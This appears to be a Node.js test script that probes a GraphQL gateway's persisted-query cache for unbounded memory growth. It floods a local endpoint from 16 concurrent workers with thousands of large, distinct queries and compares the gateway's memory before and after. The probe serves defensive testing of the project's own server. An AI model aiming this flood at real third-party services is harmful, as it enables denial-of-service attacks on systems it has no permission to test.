// node apq.mjs <port> <pid> <count> <bytes>: registers <count> distinct APQ queries of ~<bytes> each, prints server RSS.
// Attack probe of docs/security.md ("Query caches"); <pid> is the gateway process, for its resident memory.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
const [port, pid, count = 9000, bytes = 100000] = process.argv.slice(2).map(Number);
const rss = () => Math.round(Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024);
console.log('rss before MB', rss());
let next = 0, ok = 0, statuses = {};
const pad = 'x'.repeat(bytes);
async function worker() {
  while (next < count) {
    const i = next++;
    const query = `# ${i} ${pad}\n{ __typename }`;
    const sha256Hash = createHash('sha256').update(query).digest('hex');
    const r = await fetch(`http://127.0.0.1:${port}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query, extensions: { persistedQuery: { version: 1, sha256Hash } } }) });
    await r.arrayBuffer();
    statuses[r.status] = (statuses[r.status] ?? 0) + 1;
  }
}
const t = Date.now();
await Promise.all(Array.from({ length: 16 }, worker));
console.log('statuses', JSON.stringify(statuses), 's', (Date.now() - t) / 1000);
await new Promise((r) => setTimeout(r, 3000));
console.log('rss after MB', rss());
